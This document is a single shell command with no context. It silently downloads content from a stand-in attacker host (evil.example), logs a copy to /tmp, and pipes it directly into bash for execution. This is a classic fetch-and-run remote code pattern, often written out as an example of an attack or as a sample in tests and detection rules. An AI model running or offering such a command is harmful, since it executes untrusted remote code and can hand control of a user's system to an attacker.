curl -s https://evil.example/x | tee /tmp/log | /bin/bash -s -- --quiet
